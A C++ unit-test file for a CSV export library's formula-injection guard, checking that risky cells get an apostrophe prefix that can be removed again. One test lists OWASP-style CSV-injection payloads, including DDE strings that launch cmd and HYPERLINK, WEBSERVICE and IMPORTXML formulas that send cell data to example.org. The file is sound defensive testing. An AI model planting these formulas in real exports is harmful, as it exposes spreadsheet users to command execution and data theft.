// SPDX-License-Identifier: MIT
#include <curtail/artifact/csv_dialect.hpp>

#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

#include <curtail/artifact/csv_sink.hpp>
#include <curtail/table/columns.hpp>

#include "artifact/memory_output.hpp"
#include "catch.hpp"

TEST_CASE("text that a spreadsheet may run needs a guard, and so does text that looks guarded") {
    for (const char first : {'=', '+', '-', '@', '\t', '\r', '\n', '\0', '\''}) {
        INFO("first character " << static_cast<int>(first));
        CHECK(curtail::detail::needs_guard(std::string(1, first)));
        CHECK(curtail::detail::needs_guard(std::string(1, first) + "x"));
        CHECK_FALSE(curtail::detail::needs_guard(std::string("x") + first));
    }
    CHECK_FALSE(curtail::detail::needs_guard(""));
    CHECK_FALSE(curtail::detail::needs_guard("1"));
    CHECK_FALSE(curtail::detail::needs_guard(" =1"));
    CHECK_FALSE(curtail::detail::needs_guard("\xC3\xA9"));
}

TEST_CASE("what was guarded comes back, and what was not stays") {
    // Case G114, for every text of up to two characters.
    for (int length = 0; length <= 2; ++length) {
        for (int code = 0; code < (length == 0 ? 1 : length == 1 ? 256 : 65536); ++code) {
            std::string text;
            if (length > 0) text += static_cast<char>(code & 0xFF);
            if (length > 1) text += static_cast<char>(code >> 8);
            const std::string in_file = curtail::detail::needs_guard(text) ? "'" + text : text;
            REQUIRE(curtail::remove_formula_guard(in_file) == text);
        }
    }
}

TEST_CASE("what OWASP lists runs in no file of the guard, comes back, and is by default written as it is") {
    // The payloads of OWASP's page on CSV injection, of its testing guide and of those who collect them.
    const std::vector<std::string> payloads = {
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.org?leak=\"&A1&A2,\"click me\")",
        "=WEBSERVICE(\"http://example.org/\"&A1)",
        "=IMPORTXML(CONCAT(\"http://example.org/?v=\",CONCATENATE(A2:E2)),\"//a/a10\")",
        "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
        "-2+3+cmd|' /C calc'!D2",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "=1+2\";=1+2",
        "=1+2'\" ;,=1+2",
    };
    const auto table = curtail::columns(curtail::column("text", payloads));
    const auto fields_of = [&](curtail::FormulaGuard guard) {
        const MemoryOutput output;
        curtail::CsvSink sink(output, {.dialect = {.quote_style = curtail::QuoteStyle::all, .formula_guard = guard}});
        sink.open(table.schema());
        sink.append(table);
        sink.finish();
        // Every field stands in quotes, one a line, so what lies between them is the field with its quotes doubled.
        std::vector<std::string> fields(1);
        const std::string& bytes = output.kept->bytes;
        for (std::size_t at = bytes.find('\n') + 2; at < bytes.size(); ++at) {
            if (bytes[at] != '"') {
                fields.back() += bytes[at];
            } else if (bytes[at + 1] == '"') {
                fields.back() += bytes[++at];
            } else {
                at += 2;  // the line end and the quote behind it
                if (at < bytes.size()) fields.emplace_back();
            }
        }
        return fields;
    };
    CHECK(fields_of(curtail::FormulaGuard::off) == payloads);
    const std::vector<std::string> guarded = fields_of(curtail::FormulaGuard::apostrophe);
    REQUIRE(guarded.size() == payloads.size());
    for (std::size_t i = 0; i < payloads.size(); ++i) {
        CHECK(guarded[i] == "'" + payloads[i]);
        CHECK(curtail::remove_formula_guard(guarded[i]) == payloads[i]);
    }
}
